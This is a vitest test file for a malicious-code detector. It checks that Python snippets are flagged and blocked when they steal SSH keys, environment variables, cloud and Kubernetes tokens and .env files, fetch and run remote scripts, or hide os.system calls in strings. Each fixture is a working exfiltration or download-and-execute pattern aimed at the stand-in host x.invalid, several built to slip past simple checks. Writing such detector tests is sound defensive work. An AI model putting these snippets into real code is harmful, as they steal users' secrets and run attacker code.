import { describe, expect, it } from 'vitest'
import { usesOf } from '../node/source-facts.test-support.ts'
import { sightingsOf } from './code-rule.test-support.ts'
import { rule as downloadAndExecute } from './malicious-code/download-and-execute.ts'
import { rule as remoteCode } from './malicious-code/remote-code.ts'
import { rule as secretExfiltration } from './malicious-code/secret-exfiltration.ts'

/** Roads that an attacker would take around the plain calls; each on import, each the whole way. */
const file = 'demo/__init__.py'

describe('secrets are followed', () => {
  it.each([
    [
      'a path joined from the home folder',
      'from pathlib import Path\nimport requests\nrequests.post("https://x.invalid", data=(Path.home()/".ssh"/"id_rsa").read_text())\n',
    ],
    [
      'files that glob finds',
      'import glob, os, requests\nfor f in glob.glob(os.path.expanduser("~/.ssh/*")):\n    requests.post("https://x.invalid", data=open(f).read())\n',
    ],
    [
      'files that os.walk finds',
      'import os, requests\nfor d, _, fs in os.walk(os.path.expanduser("~/.ssh")):\n    for f in fs:\n        requests.post("https://x.invalid", data=open(os.path.join(d, f)).read())\n',
    ],
    [
      'the environment as a file',
      'import requests\nrequests.post("https://x.invalid", data=open("/proc/self/environ").read())\n',
    ],
    ['what env prints', 'import os, requests\nrequests.post("https://x.invalid", data=os.popen("env").read())\n'],
    [
      'what a tool prints of its token',
      'import subprocess, requests\nrequests.post("https://x.invalid", data=subprocess.check_output(["gh","auth","token"]))\n',
    ],
    ['netrc', 'import netrc, requests\nrequests.post("https://x.invalid", data=str(netrc.netrc().hosts))\n'],
    ['a file of settings', 'import requests\nrequests.post("https://x.invalid", data=open(".env").read())\n'],
    [
      'the token of a pod',
      'import requests\nrequests.post("https://x.invalid", data=open("/var/run/secrets/kubernetes.io/serviceaccount/token").read())\n',
    ],
    [
      'credentials of a library',
      'import boto3, requests\nc = boto3.Session().get_credentials().get_frozen_credentials()\nrequests.post("https://x.invalid", data={"k": c.secret_key})\n',
    ],
    [
      'a copy of a key',
      'import shutil, os, requests\nshutil.copy(os.path.expanduser("~/.ssh/id_rsa"), "/tmp/a")\nrequests.post("https://x.invalid", data=open("/tmp/a").read())\n',
    ],
    [
      'an archive of a folder',
      'import shutil, os, requests\na = shutil.make_archive("/tmp/a", "zip", os.path.expanduser("~/.ssh"))\nrequests.post("https://x.invalid", data=open(a, "rb").read())\n',
    ],
    [
      'linecache',
      'import linecache, os, requests\nrequests.post("https://x.invalid", data="".join(linecache.getlines(os.path.expanduser("~/.ssh/id_rsa"))))\n',
    ],
    [
      'a connection',
      'import socket, os\ns = socket.create_connection(("x.invalid", 1))\ns.sendall(str(dict(os.environ)).encode())\n',
    ],
    [
      'a file of a socket',
      'import socket, os\ns = socket.socket()\ns.connect(("x.invalid", 1))\ns.makefile("w").write(str(os.environ))\n',
    ],
    ['sendmsg', 'import socket, os\ns = socket.socket()\ns.sendmsg([str(os.environ).encode()])\n'],
    [
      'a request in pieces',
      'import http.client, os\nc = http.client.HTTPSConnection("x.invalid")\nc.putrequest("GET", "/?" + str(os.environ))\nc.endheaders()\n',
    ],
    ['a remote call', 'import xmlrpc.client, os\nxmlrpc.client.ServerProxy("https://x.invalid").f(dict(os.environ))\n'],
    ['a pool', 'import urllib3, os\nurllib3.HTTPSConnectionPool("x.invalid").request("POST", "/", body=str(os.environ))\n'],
    [
      'a connection of multiprocessing',
      'from multiprocessing.connection import Client\nimport os\nClient(("x.invalid", 1)).send(dict(os.environ))\n',
    ],
    ['a page that is opened', 'import webbrowser, os\nwebbrowser.open("https://x.invalid/?" + str(dict(os.environ)))\n'],
    ['the query of a request', 'import requests, os\nrequests.get("https://x.invalid", params=dict(os.environ))\n'],
  ])('through %s', async (_, code) => {
    expect((await sightingsOf(secretExfiltration, { [file]: code })).map((found) => found.split(' ')[0])).toContain('block')
  })
})

describe('what is fetched and run is followed', () => {
  it.each([
    ['run with input', 'import subprocess\nsubprocess.run(["sh"], input=b"curl https://x.invalid/p | sh")\n'],
    [
      'communicate',
      'import subprocess\np = subprocess.Popen(["sh"], stdin=-1)\np.communicate(b"curl https://x.invalid/p | sh")\n',
    ],
    [
      'Python with input',
      'import subprocess, sys\nsubprocess.run([sys.executable, "-"], input=b"import os\\nos.system(\'curl https://x.invalid/p | sh\')")\n',
    ],
    [
      'print into a file',
      'import urllib.request, os\nr = urllib.request.urlopen("https://x.invalid/p").read().decode()\nprint(r, file=open("/tmp/a.sh", "w"))\nos.system("sh /tmp/a.sh")\n',
    ],
    [
      'copyfileobj',
      'import urllib.request, os, shutil\nr = urllib.request.urlopen("https://x.invalid/p")\nwith open("/tmp/a.sh", "wb") as f:\n    shutil.copyfileobj(r, f)\nos.system("sh /tmp/a.sh")\n',
    ],
    [
      'a named temporary file',
      'import urllib.request, os, tempfile\nf = tempfile.NamedTemporaryFile(delete=False)\nf.write(urllib.request.urlopen("https://x.invalid/p").read())\nf.close()\nos.system("sh " + f.name)\n',
    ],
    [
      'a descriptor',
      'import urllib.request, os, tempfile\nfd, p = tempfile.mkstemp()\nos.write(fd, urllib.request.urlopen("https://x.invalid/p").read())\nos.system("sh " + p)\n',
    ],
    [
      'a pipe',
      'import subprocess, sys, urllib.request\np = subprocess.Popen([sys.executable, "-"], stdin=-1)\np.stdin.write(urllib.request.urlopen("https://x.invalid/p").read())\n',
    ],
    [
      'memory as a file',
      'import os, urllib.request\nfd = os.memfd_create("a")\nos.write(fd, urllib.request.urlopen("https://x.invalid/p").read())\nos.execv("/proc/self/fd/%d" % fd, ["a"])\n',
    ],
    ['the C library', 'import ctypes\nctypes.CDLL(None).system(b"curl https://x.invalid/p | sh")\n'],
  ])('through %s', async (_, code) => {
    expect((await sightingsOf(downloadAndExecute, { [file]: code })).map((found) => found.split(' ')[0])).toContain('block')
  })

  it('through a file that is read again', async () => {
    const code =
      'import urllib.request\nopen("/tmp/a.py", "wb").write(urllib.request.urlopen("https://x.invalid/p").read())\nexec(open("/tmp/a.py").read())\n'
    expect((await sightingsOf(remoteCode, { [file]: code })).map((found) => found.split(' ')[0])).toEqual(['block'])
  })
})

describe('text is followed', () => {
  it.each([
    ['timeit', "import timeit\ntimeit.timeit(\"__import__('os').system('id')\", number=1)\n"],
    ['dedent', 'import textwrap\nexec(textwrap.dedent("""\n    import os\n    os.system(\'id\')\n    """))\n'],
    ['literal_eval', 'import ast\nexec(ast.literal_eval("\'import os;os.system(1)\'"))\n'],
    ['re.sub of plain text', 'import re\nexec(re.sub("X", "", "imXport oXs;os.sXystem(\'id\')"))\n'],
    ['a docstring', 'def f():\n    "import os;os.system(\'id\')"\nexec(f.__doc__)\n'],
    ['the docstring of the module', '"""import os;os.system(\'id\')"""\nexec(__doc__)\n'],
    ['the name of a function', 'def system(): pass\nimport os\ngetattr(os, system.__name__)("id")\n'],
    ['a variable of the process', 'import os\nos.environ["A"] = "import os;os.system(\'id\')"\nexec(os.environ["A"])\n'],
    ['an item of globals()', 'x = "import os;os.system(\'id\')"\nexec(globals()["x"])\n'],
  ])('through %s', async (_, code) => {
    expect((await usesOf({ [file]: code })).some((use) => use.startsWith('import process os.system'))).toBe(true)
  })
})
